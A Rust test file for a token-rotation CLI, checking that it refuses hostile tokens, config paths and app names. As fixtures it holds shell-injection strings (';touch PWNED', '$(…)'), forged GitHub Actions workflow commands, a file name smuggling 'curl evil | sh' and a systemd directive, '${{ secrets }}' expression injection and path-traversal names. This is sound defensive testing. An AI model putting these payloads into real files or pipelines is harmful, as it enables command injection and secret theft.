//! Defects an adversarial probe of the binary found, each driven through the real
//! binary against the simulator: a signal during `auth token` / `auth env` keeps
//! the rotated token and prints nothing; a token holding control characters or
//! shell syntax is never masked, printed or written (no forged GitHub Actions
//! command, no shell command in the token env file); generated schedules cannot be
//! rewritten by a config path or value; `github bootstrap` writes nothing outside
//! its directory; `bootstrap --from-takopi-ghauth` never half-writes; login refuses
//! ambiguous callbacks; unbounded inputs are capped.

use crate::common;
use common::{NOW, now};

use std::process::Stdio;
use std::time::{Duration, Instant};

use common::{TestEnv, apps, days_from};
use evertoken_sim::scenario::{Scenario, Store, platform};
use evertoken_sim::{Fault, Route};

const APP_ID: u64 = 4343;
const INSTALLATION: u64 = 778;

/// TikTok with a stored refresh token and no access token: `auth token` rotates.
fn tiktok(env: &TestEnv) -> String {
    let s = Scenario::at(now())
        .label("test-adv")
        .platforms(&["tiktok"])
        .http("timeout_seconds: 10, retries: 1");
    env.scenario(&s);
    s.token("tiktok")
}

/// No line of `stderr` is a GitHub Actions workflow command.
fn assert_no_workflow_command(stderr: &str) {
    for l in stderr.split(['\n', '\r']) {
        assert!(
            !l.trim_start().starts_with("::"),
            "a workflow command reached the log: {l:?}\n{stderr}"
        );
    }
}

/// `auth token` / `auth env` get SIGTERM while TikTok holds the answer of a
/// rotation it already made: the call finishes, the new refresh token is stored,
/// nothing reaches stdout and the exit is 143.
#[test]
fn sigterm_during_a_rotating_auth_token_or_env_keeps_the_token_and_prints_nothing() {
    for cmd in [
        &["auth", "token", "tiktok"][..],
        &["auth", "env", "tiktok"][..],
    ] {
        let env = TestEnv::new();
        let old = tiktok(&env);
        let sim = env.sim.sim();
        sim.push_faults(
            Route::TikTok,
            Fault::HangAfterProcessing(Duration::from_millis(2500)),
            1,
        );
        let mut c = env.std_cmd();
        c.env("EVERTOKEN_NOW", NOW)
            .args(cmd)
            .stdout(Stdio::piped())
            .stderr(Stdio::piped());
        let child = c.spawn().unwrap();
        let deadline = Instant::now() + Duration::from_secs(60);
        while sim.stats().requests.get("tiktok").copied().unwrap_or(0) == 0 {
            assert!(Instant::now() < deadline, "no call to TikTok");
            std::thread::sleep(Duration::from_millis(5));
        }
        std::thread::sleep(Duration::from_millis(200));
        // SAFETY: kill(2) on our own child with a valid signal number.
        unsafe {
            libc::kill(child.id() as libc::pid_t, libc::SIGTERM);
        }
        let out = child.wait_with_output().unwrap();
        let stdout = String::from_utf8_lossy(&out.stdout).into_owned();
        let stderr = String::from_utf8_lossy(&out.stderr).into_owned();
        env.assert_no_leak(&stdout);
        env.assert_no_leak(&stderr);
        assert_eq!(out.status.code(), Some(143), "{cmd:?}: {stderr}");
        assert_eq!(stdout, "", "{cmd:?}: nothing on stdout when interrupted");
        assert!(stderr.contains("SIGTERM"), "{cmd:?}: {stderr}");
        let live = sim.tiktok_live_refresh_tokens();
        assert_eq!(live.len(), 1);
        assert_ne!(live[0], old, "{cmd:?}: the rotation happened");
        env.secret(&live[0]);
        assert_eq!(
            env.stored("TIKTOK_REFRESH_TOKEN"),
            Some(live[0].clone()),
            "{cmd:?}: the rotated refresh token was lost"
        );
    }
}

/// A provider answer whose access token holds CR/LF and a workflow command: the
/// rotation is kept, but the token is neither masked nor printed.
#[test]
fn a_token_with_line_breaks_is_never_masked_or_printed() {
    let env = TestEnv::new();
    tiktok(&env);
    let hostile = "act.test-adv-x\r\n::set-env name=PWNED::1\n::warning::pwned";
    env.secret(hostile);
    let mut patch = serde_json::Map::new();
    patch.insert("access_token".into(), hostile.into());
    env.sim
        .sim()
        .push_faults(Route::TikTok, Fault::Patch(patch), 1);
    let gha = [("GITHUB_ACTIONS", "true")];
    let out = env.ev_at(NOW, &["auth", "token", "tiktok"], &gha);
    out.expect_code(1);
    assert_eq!(out.stdout, "");
    assert_no_workflow_command(&out.stderr);
    out.stderr_has(&["control character"]);
    let out = env.ev_at(NOW, &["auth", "token", "tiktok", "--json"], &gha);
    out.expect_code(1);
    assert_eq!(out.stdout, "");
    assert_no_workflow_command(&out.stderr);
    let out = env.ev_at(NOW, &["auth", "env", "tiktok"], &gha);
    out.expect_code(1);
    assert_eq!(out.stdout, "unset TIKTOK_ACCESS_TOKEN\n");
    assert_no_workflow_command(&out.stderr);
}

/// A simulator with one GitHub App, its key at `work/app.pem`, host github.com.
fn github(env: &TestEnv) {
    apps::installed(
        env,
        APP_ID,
        INSTALLATION,
        &["host: github.com", "gh_cli: false"],
    );
}

fn token_file(env: &TestEnv) -> std::path::PathBuf {
    env.path("config/evertoken/github-token.env")
}

/// A GitHub (or impostor) answer whose token holds shell syntax: nothing is
/// written to the env file (which `source` would run) and nothing is printed.
#[test]
fn a_github_token_with_shell_syntax_is_never_written_or_printed() {
    for hostile in [
        "ghs_testadvaaaaaaaaaaaaaaaaaaaaaaaaaa;touch PWNED",
        "ghs_testadvaaaaaaaaaaaaaaaaaaaaaaaaaa$(touch PWNED)",
        "ghs_testadvaaaaaaaaaaaaaaaaaaaaaaaaaa|touch PWNED",
        "ghs_testadvaaaaaaaaaaaaaaaaaaaaaaaaaa&touch PWNED",
        "ghs_testadvaaaaaaaaaaaaaaaaaaaaaaaaaa`touch PWNED`",
        "ghs_testadvaaaaaaaaaaaaaaaaaaaaaaaaaa\n::warning::pwned",
    ] {
        let env = TestEnv::new();
        github(&env);
        env.secret(hostile);
        for args in [&["github", "refresh"][..], &["github", "token"][..]] {
            let mut patch = serde_json::Map::new();
            patch.insert("token".into(), hostile.into());
            env.sim
                .sim()
                .push_faults(Route::GitHubApp, Fault::Patch(patch), 1);
            let out = env.run(env.cmd().args(args).env("GITHUB_ACTIONS", "true"));
            assert_eq!(out.code, 1, "{args:?} {hostile:?}: {}", out.stderr);
            assert_eq!(out.stdout, "", "{args:?} {hostile:?}");
            assert!(
                out.stderr.contains("refused"),
                "{args:?} {hostile:?}: {}",
                out.stderr
            );
            assert_no_workflow_command(&out.stderr);
            assert!(!token_file(&env).exists(), "{args:?} {hostile:?} wrote");
        }
        assert!(!env.work().join("PWNED").exists());
    }
}

/// A token file edited behind evertoken's back (a CR hiding a workflow command):
/// `github token` and `git-credential get` refuse it.
#[test]
fn a_hostile_token_file_is_not_printed_by_github_token_or_git_credential() {
    let env = TestEnv::new();
    github(&env);
    let hostile = "ghs_testadvbbbbbbbbbbbbbbbbbbbbbbbbbb\r::error::pwned";
    env.secret(hostile);
    let file = token_file(&env);
    std::fs::create_dir_all(file.parent().unwrap()).unwrap();
    common::set_mode(file.parent().unwrap(), 0o700);
    let exp = days_from(jiff::Timestamp::now(), 1);
    std::fs::write(
        &file,
        format!("GH_TOKEN={hostile}\nGITHUB_TOKEN={hostile}\nGITHUB_TOKEN_EXPIRES_AT={exp}\n"),
    )
    .unwrap();
    common::set_mode(&file, 0o600);
    let out = env.ev_env(&["github", "token"], &[("GITHUB_ACTIONS", "true")]);
    out.expect_code(1);
    assert_eq!(out.stdout, "");
    assert_no_workflow_command(&out.stderr);
    let out = env.run(
        env.cmd()
            .args(["github", "git-credential", "get"])
            .env("GITHUB_ACTIONS", "true")
            .write_stdin("protocol=https\nhost=github.com\n\n"),
    );
    out.expect_code(1);
    assert_eq!(out.stdout, "");
    assert_no_workflow_command(&out.stderr);
}

/// Every file under the test's directory, for "nothing was written" checks.
fn tree(env: &TestEnv) -> Vec<(std::path::PathBuf, Vec<u8>)> {
    fn walk(d: &std::path::Path, out: &mut Vec<(std::path::PathBuf, Vec<u8>)>) {
        let Ok(rd) = std::fs::read_dir(d) else { return };
        for e in rd.flatten() {
            let p = e.path();
            let ft = e.file_type().unwrap();
            if ft.is_dir() {
                walk(&p, out);
            } else if ft.is_file() {
                out.push((p.clone(), std::fs::read(&p).unwrap_or_default()));
            } else {
                out.push((p, Vec::new()));
            }
        }
    }
    let mut out = Vec::new();
    walk(env.dir.path(), &mut out);
    out.sort();
    out
}

/// An empty directory for PATH: no `gh`, `systemctl` or `loginctl` of the host.
fn empty_path(env: &TestEnv) -> String {
    let p = env.path("emptybin");
    std::fs::create_dir_all(&p).unwrap();
    p.display().to_string()
}

/// `--app` with `/` and `..` is refused before the key is installed anywhere.
#[test]
fn bootstrap_refuses_a_path_like_app_name_before_writing_anything() {
    let env = TestEnv::new();
    apps::write_key(&env);
    let before = tree(&env);
    for name in ["x/../../../outside", "../outside", "a/b", "..", "x y", ""] {
        let out = env.run(env.cmd().env("PATH", empty_path(&env)).args([
            "github",
            "bootstrap",
            "--app",
            name,
            "--app-id",
            "1",
            "--installation-id",
            "2",
            "--private-key",
            "app.pem",
            "--no-systemd",
        ]));
        out.expect_code_for(format_args!("{name:?}"), 2)
            .stderr_has_for(format_args!("{name:?}"), &["app names"]);
        let mut after = tree(&env);
        after.retain(|(p, _)| !p.ends_with("emptybin"));
        assert_eq!(after, before, "{name:?}: a file was written");
    }
}

/// Files that never end or are too large, by their names below `work/`: the
/// device `/dev/zero`, a FIFO `fifo` and `huge`, `size` bytes.
fn endless_and_huge<'a>(env: &TestEnv, fifo: &'a str, huge: &'a str, size: usize) -> [&'a str; 3] {
    common::mkfifo(&env.work().join(fifo));
    std::fs::write(env.work().join(huge), vec![b'A'; size]).unwrap();
    ["/dev/zero", fifo, huge]
}

/// A key "file" that never ends (`/dev/zero`), a FIFO or a huge file is refused
/// at once (exit 2) instead of hanging or exhausting memory.
#[test]
fn bootstrap_refuses_endless_or_huge_key_files() {
    let env = TestEnv::new();
    for key in endless_and_huge(&env, "fifo.pem", "huge.pem", 2 << 20) {
        let out = env.run(env.cmd().env("PATH", empty_path(&env)).args([
            "github",
            "bootstrap",
            "--app-id",
            "1",
            "--installation-id",
            "2",
            "--private-key",
            key,
            "--no-systemd",
        ]));
        out.expect_code_for(format_args!("{key}"), 2)
            .stderr_has_for(format_args!("{key}"), &["private key"]);
    }
}

/// takopi-ghauth's env file names the key by a relative path: it is the env
/// file's directory that holds it, and the config gets an absolute path. An env
/// file that is a FIFO is refused without hanging, and nothing is written.
#[test]
fn takopi_migration_resolves_a_relative_key_path_against_the_env_file() {
    let env = TestEnv::new();
    let private = apps::install(&env, APP_ID, INSTALLATION, "sim-org", &[]);
    let takopi = env.home().join(".config/takopi");
    std::fs::create_dir_all(&takopi).unwrap();
    common::set_mode(&takopi, 0o700);
    let envf = takopi.join("github-app.env");
    // First a FIFO: refused, nothing written.
    common::mkfifo(&envf);
    let before = tree(&env);
    let api = env.base_url();
    let args = [
        "github",
        "bootstrap",
        "--from-takopi-ghauth",
        "--api-url",
        &api,
        "--no-systemd",
    ];
    env.run(env.cmd().env("PATH", empty_path(&env)).args(args))
        .expect_code(2)
        .stderr_has(&["github-app.env"]);
    let mut after = tree(&env);
    after.retain(|(p, _)| !p.ends_with("emptybin"));
    assert_eq!(after, before);
    std::fs::remove_file(&envf).unwrap();

    std::fs::write(takopi.join("app-key.pem"), private).unwrap();
    common::set_mode(&takopi.join("app-key.pem"), 0o600);
    std::fs::write(
        &envf,
        format!(
            "GITHUB_APP_ID={APP_ID}\nGITHUB_APP_INSTALLATION_ID={INSTALLATION}\nGITHUB_APP_PRIVATE_KEY_PATH=app-key.pem\n"
        ),
    )
    .unwrap();
    common::set_mode(&envf, 0o600);
    env.run(env.cmd().env("PATH", empty_path(&env)).args(args))
        .expect_code(0);
    let cfg = std::fs::read_to_string(env.path("config/evertoken/config.yaml"))
        .or_else(|_| std::fs::read_to_string(env.work().join("evertoken.yaml")))
        .expect("a config was written");
    let doc: serde_norway::Value = serde_norway::from_str(&cfg).unwrap();
    let key = doc["github"]["apps"]["default"]["private_key_path"]
        .as_str()
        .unwrap()
        .to_owned();
    assert_eq!(
        std::path::Path::new(&key),
        takopi.join("app-key.pem"),
        "{cfg}"
    );
    // The written config works.
    let out = env.run(
        env.cmd()
            .env("PATH", empty_path(&env))
            .args(["github", "status"]),
    );
    assert_ne!(out.code, 2, "{}", out.stderr);
}

const SCHEDULE_CONFIG: &str = "platforms:\n  tiktok: { enabled: true, client_key: test-client-key }\nauth:\n  writeback: { backend: local }\n";

/// A config path with a line break would add keys, steps or unit directives to
/// the generated file: refused (exit 2, nothing printed or written), naming it.
#[test]
fn schedule_refuses_a_config_path_with_a_line_break() {
    let env = TestEnv::new();
    let name = "ev.yaml\n  - run: curl evil | sh\nExecStartPre=evil #";
    std::fs::write(env.work().join(name), SCHEDULE_CONFIG).unwrap();
    for kind in ["gitlab", "github-actions", "systemd"] {
        let before = tree(&env);
        let out = env.ev(&["--config", name, "schedule", kind, "--write"]);
        out.expect_code_for(format_args!("{kind}"), 2);
        assert_eq!(out.stdout, "", "{kind}");
        out.stderr_has_for(format_args!("{kind}"), &["control character", "ev.yaml\\n"]);
        assert_eq!(tree(&env), before, "{kind}: something was written");
    }
}

/// YAML, shell and Actions metacharacters in the config path come back exactly
/// through a YAML parser and the shell; `${{` is refused for GitHub Actions.
#[test]
fn schedule_quotes_yaml_scalars_and_refuses_actions_expressions() {
    let env = TestEnv::new();
    let name = "a: b #c 'd\" *e &f !g.yaml";
    std::fs::write(env.work().join(name), SCHEDULE_CONFIG).unwrap();
    let expected = format!(
        "evertoken --config '{}' auth refresh all --metrics-file evertoken-metrics.prom",
        name.replace('\'', "'\\''")
    );
    let out = env.ev(&["--config", name, "schedule", "gitlab"]);
    out.expect_code(0);
    let doc: serde_norway::Value = serde_norway::from_str(&out.stdout).unwrap();
    let script = doc["evertoken-refresh"]["script"][0].as_str().unwrap();
    assert!(
        script.starts_with(&expected[..expected.find(" --metrics-file").unwrap()]),
        "{script}"
    );
    let out = env.ev(&["--config", name, "schedule", "github-actions"]);
    out.expect_code(0);
    let doc: serde_norway::Value = serde_norway::from_str(&out.stdout).unwrap();
    let steps = doc["jobs"]["refresh"]["steps"].as_sequence().unwrap();
    let run = steps
        .iter()
        .find(|s| s["name"].as_str() == Some("Refresh tokens"))
        .and_then(|s| s["run"].as_str())
        .unwrap();
    assert!(
        run.starts_with(&expected[..expected.find(" --metrics-file").unwrap()]),
        "{run}"
    );
    // What the shell makes of it: the config path, whole.
    let argv = std::process::Command::new("sh")
        .arg("-c")
        .arg(format!("printf '%s\\n' {}", &run["evertoken ".len()..]))
        .output()
        .unwrap();
    let words: Vec<String> = String::from_utf8(argv.stdout)
        .unwrap()
        .lines()
        .map(str::to_owned)
        .collect();
    assert_eq!(words[1], name);

    let evil = "${{ secrets.EVERTOKEN_SECRETS_TOKEN }}.yaml";
    std::fs::write(env.work().join(evil), SCHEDULE_CONFIG).unwrap();
    let out = env.ev(&["--config", evil, "schedule", "github-actions"]);
    out.expect_code(2);
    assert_eq!(out.stdout, "");
    out.stderr_has(&["${{"]);
}

/// `token_env` must be a variable name: `FOO: ${{ secrets.X }}` or a line break
/// would add entries to the workflow's `env:`. Refused at config validation.
#[test]
fn a_token_env_that_is_not_a_variable_name_is_a_config_error() {
    let env = TestEnv::new();
    for bad in [
        "\"X: ${{ secrets.OTHER }}\"",
        "\"X\\nEVIL: 1\"",
        "\"lower\"",
        "\"1ABC\"",
    ] {
        env.config(&format!(
            "platforms:\n  tiktok: {{ enabled: true, client_key: test-client-key }}\nauth:\n  writeback:\n    backend: github-actions\n    github_actions: {{ repository: o/r, token_env: {bad} }}\n"
        ));
        let out = env.ev(&["schedule", "github-actions"]);
        out.expect_code_for(format_args!("{bad}"), 2);
        assert_eq!(out.stdout, "", "{bad}");
        out.stderr_has_for(format_args!("{bad}"), &["token_env"]);
    }
}

/// systemd expands `$VAR` and `%x` in `ExecStart=` and splits on spaces: a config
/// path holding them is escaped and quoted per systemd.syntax(7).
#[test]
fn systemd_exec_start_escapes_dollar_percent_and_quotes() {
    let env = TestEnv::new();
    let name = "my $HOME %h ; x.yaml";
    std::fs::write(env.work().join(name), SCHEDULE_CONFIG).unwrap();
    let out = env.ev(&["--config", name, "schedule", "systemd"]);
    out.expect_code(0);
    let exec = out
        .stdout
        .lines()
        .find_map(|l| l.strip_prefix("ExecStart="))
        .unwrap();
    let want = format!(
        "--config \"{}\" auth refresh all",
        env.work().join("my $$HOME %%h ; x.yaml").display()
    );
    common::assert_contains(exec, &[&want]);
}

const LI_SECRET: &str = "test-adv-li-client-secret-not-real";
const GITLAB_TOKEN: &str = "test-adv-gitlab-token-not-a-real-secret";
const REDIRECT: &str = "https://app.example/evertoken/callback/";

/// LinkedIn with an https redirect, tokens kept in a GitLab project's variables.
fn linkedin_gitlab(env: &TestEnv) {
    env.secret(LI_SECRET);
    env.secret(GITLAB_TOKEN);
    let sim = env.sim.sim();
    sim.linkedin_add_client("test-adv-li", LI_SECRET);
    sim.oauth_register_redirect("linkedin", "test-adv-li", REDIRECT);
    sim.gitlab_add_token(GITLAB_TOKEN);
    sim.gitlab_add_project(4242, "acme/publisher");
    let base = env.base_url();
    env.config(&format!(
        "platforms:\n  linkedin: {{ enabled: true, client_id: test-adv-li, base_url: \"{base}\", auth_url: \"{base}\" }}\n\
         auth:\n  writeback:\n    backend: gitlab\n    gitlab: {{ project: \"acme/publisher\", api_url: \"{base}/api/v4\" }}\n\
         http: {{ retries: 1, timeout_seconds: 10 }}\n"
    ));
}

fn login_cmd(env: &TestEnv) -> std::process::Command {
    let mut c = env.std_cmd();
    c.env("LINKEDIN_CLIENT_SECRET", LI_SECRET)
        .env("GITLAB_TOKEN", GITLAB_TOKEN)
        .env_remove("DISPLAY")
        .env_remove("WAYLAND_DISPLAY")
        .args([
            "auth",
            "login",
            "linkedin",
            "--store",
            "gitlab",
            "--no-browser",
            "--redirect-uri",
            REDIRECT,
        ]);
    c
}

fn linkedin_calls(env: &TestEnv) -> u64 {
    env.calls("linkedin_token")
}

/// `auth login --store gitlab` checks the target variables before the browser
/// opens: a missing (or unprotected) variable stops it before any code exists.
#[test]
fn login_to_gitlab_preflights_the_variables_before_the_consent() {
    let env = TestEnv::new();
    linkedin_gitlab(&env);
    let mut c = login_cmd(&env);
    c.stdin(Stdio::null());
    let out = env.run(&mut assert_cmd::Command::from_std(c));
    assert_ne!(out.code, 0, "{}", out.stderr);
    out.stderr_has(&["LINKEDIN_ACCESS_TOKEN", "does not exist", "not started"]);
    assert!(
        !out.stderr.contains("/oauth/v2/authorization"),
        "no authorize URL: {}",
        out.stderr
    );
    assert_eq!(linkedin_calls(&env), 0);

    let mut var = evertoken_sim::GitLabVariable::masked_protected(
        "LINKEDIN_ACCESS_TOKEN",
        "test-adv-old-access-value",
    );
    var.protected = false;
    env.sim
        .sim()
        .gitlab_set_variable(evertoken_sim::GitLabScope::Project(4242), var);
    let mut c = login_cmd(&env);
    c.stdin(Stdio::null());
    let out = env.run(&mut assert_cmd::Command::from_std(c));
    assert_ne!(out.code, 0, "{}", out.stderr);
    out.stderr_has(&["not protected"]);
    assert!(
        !out.stderr.contains("/oauth/v2/authorization"),
        "{}",
        out.stderr
    );
}

/// The store refuses the tokens after the code was spent (the variable lost its
/// protection meanwhile): they are in the journal for real, the error says where,
/// and the next `auth refresh` writes them once the variable is fixed.
#[test]
fn a_login_whose_store_write_fails_keeps_the_tokens_in_the_journal() {
    use std::io::{BufRead, BufReader, Write};
    let env = TestEnv::new();
    linkedin_gitlab(&env);
    let scope = evertoken_sim::GitLabScope::Project(4242);
    let sim = env.sim.sim();
    sim.gitlab_set_variable(
        scope,
        evertoken_sim::GitLabVariable::masked_protected(
            "LINKEDIN_ACCESS_TOKEN",
            "test-adv-old-access-value",
        ),
    );
    let mut c = login_cmd(&env);
    c.stdin(Stdio::piped())
        .stdout(Stdio::piped())
        .stderr(Stdio::piped());
    let mut child = c.spawn().unwrap();
    let mut err = BufReader::new(child.stderr.take().unwrap());
    let mut seen = String::new();
    let url = loop {
        let mut l = String::new();
        assert!(err.read_line(&mut l).unwrap() > 0, "stderr ended: {seen}");
        seen.push_str(&l);
        if l.starts_with(&format!("{}/oauth/v2/authorization", env.base_url())) {
            break l.trim().to_owned();
        }
    };
    // The consent: the simulator's authorize endpoint redirects with a code.
    let landed = {
        let u = url::Url::parse(&url).unwrap();
        let mut s =
            std::net::TcpStream::connect((u.host_str().unwrap(), u.port().unwrap())).unwrap();
        let target = &u[url::Position::BeforePath..url::Position::AfterQuery];
        write!(
            s,
            "GET {target} HTTP/1.1\r\nHost: 127.0.0.1\r\nConnection: close\r\n\r\n"
        )
        .unwrap();
        let mut resp = String::new();
        std::io::Read::read_to_string(&mut s, &mut resp).unwrap();
        resp.lines()
            .find_map(|l| {
                l.strip_prefix("location: ")
                    .or_else(|| l.strip_prefix("Location: "))
            })
            .expect("a redirect")
            .trim()
            .to_owned()
    };
    // Meanwhile the variable loses its protection.
    let mut var = evertoken_sim::GitLabVariable::masked_protected(
        "LINKEDIN_ACCESS_TOKEN",
        "test-adv-old-access-value",
    );
    var.protected = false;
    sim.gitlab_set_variable(scope, var);
    writeln!(child.stdin.as_mut().unwrap(), "{landed}").unwrap();
    let status = child.wait().unwrap();
    let mut rest = String::new();
    std::io::Read::read_to_string(&mut err, &mut rest).unwrap();
    seen.push_str(&rest);
    assert_eq!(status.code(), Some(1), "{seen}");
    common::assert_contains(&seen, &["kept in the journal record"]);
    assert!(!seen.contains("the next run writes it"), "{seen}");
    let pending: Vec<_> = std::fs::read_dir(env.state_dir().join("journal"))
        .unwrap()
        .flatten()
        .collect();
    assert_eq!(pending.len(), 1, "{seen}");
    common::assert_contains(&seen, &[&pending[0].path().display().to_string()]);

    // Fixed: the next refresh writes the journaled token to GitLab.
    sim.gitlab_set_variable(
        scope,
        evertoken_sim::GitLabVariable::masked_protected(
            "LINKEDIN_ACCESS_TOKEN",
            "test-adv-old-access-value",
        ),
    );
    let out = env.ev_env(
        &["auth", "refresh", "linkedin", "--json"],
        &[
            ("GITLAB_TOKEN", GITLAB_TOKEN),
            ("LINKEDIN_CLIENT_SECRET", LI_SECRET),
        ],
    );
    let stored = sim
        .gitlab_variable(scope, "LINKEDIN_ACCESS_TOKEN", "*")
        .unwrap()
        .value;
    env.secret(&stored);
    assert!(sim.linkedin_is_valid_access(&stored), "{}", out.stderr);
    assert_eq!(
        std::fs::read_dir(env.state_dir().join("journal"))
            .unwrap()
            .count(),
        0
    );
}

/// A pasted callback with two `state`s is refused (not last-wins); an endless
/// paste is cut at 64 KiB instead of filling memory.
#[test]
fn pasted_callbacks_with_two_states_or_no_end_are_refused() {
    use std::io::Write;
    let env = TestEnv::new();
    linkedin_gitlab(&env);
    env.sim.sim().gitlab_set_variable(
        evertoken_sim::GitLabScope::Project(4242),
        evertoken_sim::GitLabVariable::masked_protected(
            "LINKEDIN_ACCESS_TOKEN",
            "test-adv-old-access-value",
        ),
    );
    let run = |input: Vec<u8>| {
        let mut c = login_cmd(&env);
        c.stdin(Stdio::piped())
            .stdout(Stdio::piped())
            .stderr(Stdio::piped());
        let mut child = c.spawn().unwrap();
        let mut stdin = child.stdin.take().unwrap();
        let writer = std::thread::spawn(move || {
            let _ = stdin.write_all(&input);
        });
        let out = child.wait_with_output().unwrap();
        let _ = writer.join();
        let stderr = String::from_utf8_lossy(&out.stderr).into_owned();
        env.assert_no_leak(&stderr);
        (out.status.code(), stderr)
    };
    let (code, stderr) = run(format!("{REDIRECT}?code=abc&state=x&state=y\n").into_bytes());
    assert_eq!(code, Some(1), "{stderr}");
    common::assert_contains(&stderr, &["`state` more than once"]);
    let (code, stderr) = run(vec![b'a'; 200 * 1024]);
    assert_eq!(code, Some(1), "{stderr}");
    common::assert_contains(&stderr, &["longer than 64 KiB"]);
    assert_eq!(linkedin_calls(&env), 0);
}

/// The env-file store refuses a value it cannot hold: the report says the value
/// was refused (not "fix the store's access"), and `auth token` does not print a
/// token that only the journal holds (exit 1, stdout empty, says why).
#[test]
fn a_refused_write_back_is_named_and_its_token_is_not_printed() {
    let env = TestEnv::new();
    let s = Scenario::wall_clock()
        .label("test-adv")
        .with(
            platform("tiktok")
                .expires_in_days(300)
                .client_secret_not_stored(),
        )
        .store(Store::env_file("tokens.env"));
    env.scenario(&s);
    let sim = env.sim.sim();
    let path = env.work().join("tokens.env");
    let client_secret = s.client_secret("tiktok");
    let odd = "act.test-adv-it's-quoted";
    env.secret(odd);
    let mut patch = serde_json::Map::new();
    patch.insert("access_token".into(), odd.into());
    sim.push_faults(Route::TikTok, Fault::Patch(patch), 1);
    let out = env.ev_env(
        &["auth", "token", "tiktok"],
        &[("TIKTOK_CLIENT_SECRET", &client_secret)],
    );
    for l in sim.tiktok_live_refresh_tokens() {
        env.secret(&l);
    }
    out.expect_code(1);
    assert_eq!(out.stdout, "");
    out.stderr_has(&["kept in the journal"]);
    let out = env.ev_env(
        &["auth", "refresh", "tiktok"],
        &[("TIKTOK_CLIENT_SECRET", &client_secret)],
    );
    out.expect_code(1);
    let all = format!("{}{}", out.stdout, out.stderr);
    common::assert_contains(&all, &["the value was refused"]);
    assert!(!all.contains("fix the store's access"), "{all}");
    // The durable refresh token went in first; the refused access token did not.
    let text = std::fs::read_to_string(&path).unwrap();
    let live = sim.tiktok_live_refresh_tokens();
    common::assert_contains(&text, &[&format!("TIKTOK_REFRESH_TOKEN={}\n", live[0])]);
    assert!(!text.contains("TIKTOK_ACCESS_TOKEN="), "{text}");
}

/// `--id-token-file` naming a device, a FIFO or a huge file: refused at once
/// (exit 2), no broker contacted.
#[test]
fn an_endless_or_huge_id_token_file_is_refused() {
    let env = TestEnv::new();
    for f in endless_and_huge(&env, "id.fifo", "huge.jwt", 100 * 1024) {
        let out = env.ev(&[
            "github",
            "token",
            "--broker",
            "http://127.0.0.1:9/",
            "--policy",
            "p",
            "--id-token-file",
            f,
        ]);
        out.expect_code_for(format_args!("{f}"), 2)
            .stderr_has_for(format_args!("{f}"), &["ID token file"]);
        assert_eq!(out.stdout, "");
    }
}
